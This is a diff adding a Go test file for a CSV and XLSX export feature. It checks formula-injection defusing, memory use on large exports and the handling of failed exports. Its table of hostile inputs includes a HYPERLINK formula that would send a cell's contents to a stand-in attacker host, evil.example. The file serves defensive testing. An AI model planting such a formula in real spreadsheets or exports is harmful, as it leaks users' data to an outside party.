@@ -1,0 +1,220 @@
+package metapic
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/matryer/is"
+	"github.com/xuri/excelize/v2"
+)
+
+type exported struct {
+	id   int64
+	text string
+}
+
+func exportOf(next func() ([]exported, error)) table[exported] {
+	return table[exported]{name: "things", next: next, columns: []column[exported]{
+		{"id", func(e exported) any { return e.id }},
+		{"text", func(e exported) any { return e.text }},
+		{"nothing", func(exported) any { return nil }},
+	}}
+}
+
+// batches answers each batch once, then the end.
+func batches(all ...[]exported) func() ([]exported, error) {
+	return func() ([]exported, error) {
+		if len(all) == 0 {
+			return nil, nil
+		}
+		batch := all[0]
+		all = all[1:]
+		return batch, nil
+	}
+}
+
+// hostile are texts that a spreadsheet would run, and what must become of them.
+var hostile = map[string]string{
+	`=1+1`: `'=1+1`, `+49`: `'+49`, `-1`: `'-1`, `@SUM(A1)`: `'@SUM(A1)`, "\t=1": "'\t=1", "\r=1": "'\r=1",
+	`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
+	`plain`: `plain`, `a=b`: `a=b`, ``: ``, `"quoted", and = more`: `"quoted", and = more`, `åäö €`: `åäö €`,
+}
+
+func TestExportsDefuseFormulas(t *testing.T) {
+	for text, want := range hostile {
+		for format, read := range map[string]func(*testing.T, []byte) [][]string{formatCSV: readCSV, formatXLSX: readXLSX} {
+			is := is.New(t)
+			stream, err := exportOf(batches([]exported{{1, text}, {-2, "last"}})).export(format)
+			is.NoErr(err)
+			var file bytes.Buffer
+			is.NoErr(stream.Write(&file))
+			rows := read(t, file.Bytes())
+			is.Equal(len(rows), 3)
+			is.Equal(rows[0][:2], []string{"id", "text"})
+			cell := ""
+			if len(rows[1]) > 1 { // a spreadsheet has no cells behind the last one with something in it
+				cell = rows[1][1]
+			}
+			is.Equal(strings.ReplaceAll(cell, "\r", ""), strings.ReplaceAll(want, "\r", "")) // readers of both formats normalise line ends
+			is.Equal(rows[2][:2], []string{"-2", "last"})                                    // numbers stay numbers
+		}
+	}
+}
+
+func readCSV(t *testing.T, file []byte) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+func readXLSX(t *testing.T, file []byte) [][]string {
+	t.Helper()
+	book, err := excelize.OpenReader(bytes.NewReader(file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = book.Close() }()
+	rows, err := book.GetRows(book.GetSheetName(0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range rows {
+		for j := range rows[i] {
+			if formula, err := book.GetCellFormula(book.GetSheetName(0), cellName(t, j, i)); err != nil || formula != "" {
+				t.Errorf("a formula %q, %v", formula, err)
+			}
+		}
+	}
+	return rows
+}
+
+func cellName(t *testing.T, column, row int) string {
+	t.Helper()
+	name, err := excelize.CoordinatesToCellName(column+1, row+1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return name
+}
+
+// peak is the most live memory that was seen, in bytes above where it began.
+type peak struct{ base, most uint64 }
+
+func live() uint64 {
+	runtime.GC()
+	var m runtime.MemStats
+	runtime.ReadMemStats(&m)
+	return m.HeapAlloc
+}
+
+func (p *peak) look() { p.most = max(p.most, live()) }
+
+func (p *peak) grown() uint64 { return p.most - min(p.base, p.most) }
+
+// A hundred thousand rows of a kilobyte each are 100 MB of text.
+func TestExportsOfManyRowsStayInBoundedMemory(t *testing.T) {
+	const rows = 100_000
+	filler := strings.Repeat("x", 1000)
+	for format, bound := range map[string]uint64{formatCSV: 4 << 20, formatXLSX: 64 << 20} {
+		t.Run(format, func(t *testing.T) {
+			is := is.New(t)
+			memory := peak{base: live()}
+			made := 0
+			next := func() ([]exported, error) {
+				if made%(20*exportBatch) == 0 {
+					memory.look()
+				}
+				batch := make([]exported, 0, exportBatch)
+				for ; len(batch) < exportBatch && made < rows; made++ {
+					batch = append(batch, exported{int64(made), "=" + strconv.Itoa(made) + filler})
+				}
+				return batch, nil
+			}
+			stream, err := exportOf(next).export(format)
+			is.NoErr(err)
+			path := filepath.Join(t.TempDir(), "things."+format)
+			file, err := os.Create(path)
+			is.NoErr(err)
+			is.NoErr(stream.Write(file))
+			memory.look()
+			is.NoErr(file.Close())
+			if memory.grown() > bound {
+				t.Errorf("%d MiB were alive at once", memory.grown()>>20)
+			}
+			is.Equal(countRows(t, format, path), rows+1)
+		})
+	}
+}
+
+// countRows counts the lines of a file without keeping it.
+func countRows(t *testing.T, format, path string) int {
+	t.Helper()
+	if format == formatCSV {
+		file, err := os.Open(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer func() { _ = file.Close() }()
+		return count(t, file, "\n")
+	}
+	archive, err := zip.OpenReader(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = archive.Close() }()
+	sheet, err := archive.Open("xl/worksheets/sheet1.xml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = sheet.Close() }()
+	return count(t, sheet, "<row ")
+}
+
+func count(t *testing.T, r io.Reader, what string) int {
+	t.Helper()
+	n, rest, buffer := 0, "", make([]byte, 1<<20)
+	for {
+		read, err := r.Read(buffer)
+		text := rest + string(buffer[:read])
+		n += strings.Count(text, what)
+		rest = text[max(0, len(text)-len(what)+1):]
+		if err == io.EOF {
+			return n
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestAnExportThatBreaksIsNoWholeFile(t *testing.T) {
+	is := is.New(t)
+	broken := errors.New("the database went away")
+	for _, format := range []string{formatCSV, formatXLSX} {
+		_, err := exportOf(func() ([]exported, error) { return nil, broken }).export(format)
+		is.True(errors.Is(err, broken)) // before anything was sent: an answer of its own
+		calls := 0
+		stream, err := exportOf(func() ([]exported, error) {
+			if calls++; calls > 1 {
+				return nil, broken
+			}
+			return []exported{{1, "first"}}, nil
+		}).export(format)
+		is.NoErr(err)
+		is.True(errors.Is(stream.Write(io.Discard), broken)) // later: the connection is cut
+		is.Equal(stream.Header.Get("Content-Disposition"), fmt.Sprintf(`attachment; filename="things.%s"`, format))
+	}
+}
